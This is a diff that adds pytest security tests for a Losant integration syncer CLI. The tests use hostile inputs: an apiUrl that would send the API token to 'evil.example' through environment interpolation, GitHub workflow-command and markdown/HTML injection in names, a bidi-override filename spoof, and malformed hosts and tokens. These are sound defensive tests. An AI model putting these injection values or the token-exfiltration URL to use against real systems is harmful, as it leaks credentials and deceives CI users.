@@ -1,0 +1,179 @@
+"""Hostile values where the first defences did not look: the environment in syncer.yaml and in
+names, secrets that look like syntax, legacy workflow commands, characters a terminal or an
+encoder cannot take, and hosts and tokens that are not what they claim."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+
+from syncer.emulator.testing import running_emulator
+from tests.e2e import APP, run, tree, writes
+from tests.helpers import syncer
+
+TOKEN = "tok3n-HOSTILE-5e21"
+PARTICLE: dict[str, Any] = {"integrationType": "particle", "particleConfig": {"accessToken": "tok-12345678"}}
+
+
+def test_syncer_yaml_cannot_build_the_api_url_from_the_environment(tmp_path: Path) -> None:
+    project = {"apiUrl": "https://evil.example/${env:LOSANT_API_TOKEN}"}
+    files = tree(tmp_path, {**PARTICLE, "name": "x"}, project=project)
+    result = syncer("plan", str(files), env={"LOSANT_API_TOKEN": TOKEN, "LOSANT_API_URL": None})
+    assert result.exit_code == 1
+    assert TOKEN not in result.output
+    assert (
+        "apiUrl: apiUrl cannot read the environment: set LOSANT_API_URL (or --api-url) instead"
+        in result.stderr
+    )
+
+
+@pytest.mark.parametrize("field", ["name", "previousNames", "id"])
+def test_an_identity_cannot_come_from_the_environment(field: str, tmp_path: Path) -> None:
+    value: Any = "${env:SECRET_NAME}" if field != "previousNames" else ["${env:SECRET_NAME}"]
+    entry = {**PARTICLE, "name": "x", field: value}
+    result = syncer("validate", str(tree(tmp_path, entry)), env={"SECRET_NAME": "name-SECRET-77"})
+    assert result.exit_code == 1
+    assert f"{field} cannot read the environment: it is the integration's identity" in result.stderr
+    assert "SECRET-77" not in result.output
+
+
+def test_an_error_never_shows_a_value_read_from_the_environment(tmp_path: Path) -> None:
+    # two entries whose names are equal only once the environment is read
+    entries = [
+        {**PARTICLE, "name": "same", "topics": ["${env:T1}"]},
+        {**PARTICLE, "name": "same", "topics": ["${env:T1}"]},
+    ]
+    result = syncer(
+        "validate", str(tree(tmp_path, *entries)), env={"T1": "topic-SECRET-12", "GITHUB_ACTIONS": "true"}
+    )
+    assert result.exit_code == 1
+    assert "declared twice" in result.stderr
+    assert "SECRET-12" not in result.output
+
+
+@pytest.mark.parametrize("secret", ["```diff", "````", "true", "null", "false"])
+def test_a_secret_that_looks_like_syntax_breaks_no_output(secret: str, tmp_path: Path) -> None:
+    summary = tmp_path / "summary.md"
+    env = {
+        "GITHUB_ACTIONS": "true",
+        "GITHUB_STEP_SUMMARY": str(summary),
+        "GITHUB_OUTPUT": str(tmp_path / "out"),
+    }
+    hostile = {"name": "@security-team <img src=x> **Approved**", **PARTICLE}
+    with running_emulator() as running:
+        running.emulator.seed(APP, [{**hostile, "particleConfig": {"accessToken": secret}}])
+        files = tree(tmp_path / "files", {**PARTICLE, "name": "keep"})
+        plan = run(running, "plan", str(files), "--prune", "--format", "json", env=env)
+        drift = run(running, "drift", str(files), "--format", "markdown", env=env)
+    assert plan.exit_code == 0, plan.output
+    lines = plan.stdout.splitlines()
+    assert lines[0].startswith("::stop-commands::")
+    json.loads("\n".join(lines[1:-1]))  # the JSON inside the fence parses
+    for markdown in (drift.stdout, summary.read_text()):
+        outside: list[str] = []
+        fence = 0
+        for line in markdown.splitlines():
+            ticks = len(line) - len(line.lstrip("`"))
+            if ticks >= 3 and (fence == 0 or ticks >= fence):
+                fence = 0 if fence else ticks
+            elif fence == 0:
+                outside.append(line)
+        assert not any("@security-team" in line or "<img" in line for line in outside), outside
+
+
+def test_legacy_workflow_commands_are_neutralised_in_every_line(tmp_path: Path) -> None:
+    with running_emulator(latency=0.01) as running:
+        running.emulator.seed(APP, [{**PARTICLE, "name": "x ##[warning]INJECTED", "enabled": False}])
+        files = tree(tmp_path, {**PARTICLE, "name": "x ##[warning]INJECTED", "enabled": True})
+        result = run(
+            running, "--debug", "apply", str(files), "--auto-approve", env={"GITHUB_ACTIONS": "true"}
+        )
+    assert result.exit_code == 0, result.output
+    assert "##[warning]" not in result.output
+    assert "##\\[warning]INJECTED" in result.stderr  # the progress line, still readable
+
+
+def test_a_lone_surrogate_in_a_live_name_is_shown_escaped(tmp_path: Path) -> None:
+    with running_emulator() as running:
+        running.emulator.seed(APP, [{**PARTICLE, "name": "bad \ud800 name"}])
+        for output in ("text", "markdown", "json"):
+            result = run(
+                running, "plan", str(tree(tmp_path, {**PARTICLE, "name": "k"})), "--prune", "--format", output
+            )
+            assert result.exit_code == 0, result.output
+            assert "internal error" not in result.output
+
+
+@pytest.mark.parametrize(
+    "url",
+    ["https://api..losant.com", "https://999.1.1.1", "https://api\u200b.losant.com", "https://-x.losant.com"],
+)
+def test_a_url_that_names_no_host_is_one_line(url: str, tmp_path: Path) -> None:
+    result = syncer(
+        "plan",
+        str(tree(tmp_path, {**PARTICLE, "name": "x"})),
+        env={"LOSANT_API_TOKEN": TOKEN, "LOSANT_API_URL": url},
+    )
+    assert result.exit_code == 1
+    assert "does not name a host" in result.stderr
+    assert len(result.stderr.splitlines()) == 1
+
+
+@pytest.mark.parametrize("token", ["tök3n-with-umlaut", "tok en", "tok\u200ben"])
+def test_a_token_that_cannot_be_a_token_is_one_line_and_never_shown(token: str, tmp_path: Path) -> None:
+    with running_emulator() as running:
+        result = run(running, "plan", str(tree(tmp_path, {**PARTICLE, "name": "x"})), token=token)
+        assert result.exit_code == 1
+        assert (
+            "LOSANT_API_TOKEN: the API token holds a space, a control or a non-ASCII character"
+            in result.stderr
+        )
+        assert token not in result.output
+        assert running.emulator.log == []
+
+
+def test_an_unwritable_step_summary_is_one_line(tmp_path: Path) -> None:
+    with running_emulator() as running:
+        env = {
+            "GITHUB_ACTIONS": "true",
+            "GITHUB_STEP_SUMMARY": str(tmp_path),
+            "GITHUB_OUTPUT": str(tmp_path / "o"),
+        }
+        result = run(running, "plan", str(tree(tmp_path / "f", {**PARTICLE, "name": "x"})), env=env)
+    assert result.exit_code == 1
+    assert f"{tmp_path}: cannot write the step summary" in result.stderr
+
+
+def test_export_from_an_api_that_omits_header_values_validates_and_round_trips(tmp_path: Path) -> None:
+    feed = {
+        "name": "Feed",
+        "integrationType": "websocket",
+        "websocketConfig": {
+            "url": "wss://x",
+            "headers": [{"headerKey": "Authorization", "headerValue": "Bearer hv-1"}],
+        },
+    }
+    with running_emulator(secrets="omit") as running:
+        running.emulator.seed(APP, [feed])
+        out = tmp_path / "out"
+        assert run(running, "export", "--application", APP, "--out", str(out)).exit_code == 0
+        exported = out / f"{APP}.yaml"
+        assert "headerValue: ${env:FEED_WEBSOCKET_HEADER_AUTHORIZATION}" in exported.read_text()
+        assert run(running, "validate", "--env-optional", str(exported)).exit_code == 0
+        env = {"FEED_WEBSOCKET_HEADER_AUTHORIZATION": "anything"}
+        assert run(running, "plan", str(exported), "--detailed-exitcode", env=env).exit_code == 0
+        assert writes(running) == []
+
+
+def test_export_writes_a_bidi_override_as_an_escape(tmp_path: Path) -> None:
+    with running_emulator() as running:
+        running.emulator.seed(APP, [{**PARTICLE, "name": "admin\u202etxt.exe"}])
+        out = tmp_path / "out"
+        assert run(running, "export", "--application", APP, "--out", str(out)).exit_code == 0
+        text = (out / f"{APP}.yaml").read_text()
+        assert "\u202e" not in text
+        assert yaml.safe_load(text)["integrations"][0]["name"] == "admin\u202etxt.exe"  # reads back the same
